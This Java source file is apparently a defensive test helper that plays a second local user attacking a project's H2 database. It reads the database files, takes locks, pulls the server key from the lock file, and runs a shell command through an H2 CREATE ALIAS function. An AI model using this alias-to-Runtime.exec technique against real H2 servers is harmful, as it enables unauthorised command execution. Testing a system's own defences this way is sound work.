package io.github.kisroutes.database;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Properties;
import java.util.concurrent.Callable;
import java.util.stream.Stream;

/**
 * What another user of the machine tries; a program of its own that needs nothing but H2. It says one line for each attempt:
 * what it tried, a colon, and either what it got or the kind of the refusal.
 */
final class Intruder {
    private static final String REFUSED = "refused, ";

    private Intruder() {}

    /** @param arguments the folder of the database; the port of its server; and, if it was betrayed, the key. Or: listen, a port */
    public static void main(String[] arguments) throws IOException {
        if (arguments[0].equals("listen")) {
            listen(Integer.parseInt(arguments[1]));
            return;
        }
        Path folder = Path.of(arguments[0]);
        attempt("user", () -> System.getProperty("user.name"));
        attempt("list", () -> list(folder));
        attempt("database", () -> Files.size(folder.resolve("kis.mv.db")) + " bytes" + read(folder, "kis.mv.db"));
        attempt("start lock", () -> lock(folder.resolve("kis.start.lock")));
        attempt("write lock", () -> lock(folder.resolve("kis.write.lock")));
        attempt("lock file", () -> "key" + read(folder, "kis.lock.db"));
        attempt("guessed key", () -> runCommand(arguments[1], "0123456789abcdef"));
        attempt("shell", () -> runCommand(arguments[1], arguments.length > 2 ? arguments[2] : key(folder)));
    }

    /** Takes the port of a process that has ended, and waits for what is sent there. */
    private static void listen(int port) throws IOException {
        try (ServerSocket server = new ServerSocket(port, 1, InetAddress.getLoopbackAddress())) {
            System.out.println("listening");
            try (Socket caught = server.accept()) {
                System.out.println("caught " + caught.getInputStream().read());
            }
        }
    }

    private static void attempt(String what, Callable<String> attempt) {
        try {
            System.out.println(what + ": " + attempt.call());
        } catch (Exception e) {
            System.out.println(what + ": " + REFUSED + e.getClass().getSimpleName()
                    + (e instanceof SQLException sql ? " " + sql.getErrorCode() : ""));
        }
    }

    private static String list(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.count() + " files";
        }
    }

    private static String read(Path folder, String file) throws IOException {
        return Files.readAllBytes(folder.resolve(file)).length == 0 ? " empty" : " read";
    }

    private static String lock(Path file) throws IOException {
        try (FileChannel channel = FileChannel.open(file, StandardOpenOption.READ);
                FileLock lock = channel.lock(0, Long.MAX_VALUE, true)) {
            return lock.isShared() ? "shared lock" : "lock";
        }
    }

    private static String key(Path folder) throws IOException {
        Properties lock = new Properties();
        lock.load(Files.newBufferedReader(folder.resolve("kis.lock.db")));
        return lock.getProperty("id");
    }

    private static String runCommand(String port, String key) throws SQLException {
        try (Connection connection =
                        DriverManager.getConnection("jdbc:h2:tcp://127.0.0.1:" + port + "/" + key, "sa", "");
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE ALIAS IF NOT EXISTS SHELL AS $$ String shell(String command) throws Exception {"
                    + " return new String(Runtime.getRuntime().exec(command).getInputStream().readAllBytes()); } $$");
            try (ResultSet result = statement.executeQuery("CALL SHELL('id -u')")) {
                result.next();
                return "as " + result.getString(1).strip();
            }
        }
    }
}
